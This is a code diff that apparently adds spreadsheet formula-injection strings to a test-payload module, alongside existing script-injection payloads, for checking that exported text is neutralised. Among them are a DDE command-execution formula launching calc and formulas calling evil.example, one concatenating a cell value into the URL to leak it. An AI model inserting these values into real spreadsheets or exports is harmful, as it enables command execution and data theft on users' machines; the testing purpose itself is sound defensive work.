@@ -76,3 +76,19 @@ WRAPPINGS = (
 PAYLOADS = tuple(
     wrapping.replace("{}", text) for text, wrapping in product(SCRIPTS + ADDRESSES + COVERS, WRAPPINGS)
 )
+
+FORMULAS = (
+    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "a;=1", "a\t=1+2", "a\n=1+2", "a|=1"),
+    '=HYPERLINK("https://evil.example","click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=WEBSERVICE("https://evil.example")',
+    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
+    "＝1+1",
+    "＋1",
+    '"=1',
+    'a";=1+1',
+    "a,=1+1",
+    "%0A=1",
+)
+"""Texts that a spreadsheet would calculate, if it took them for formulas."""
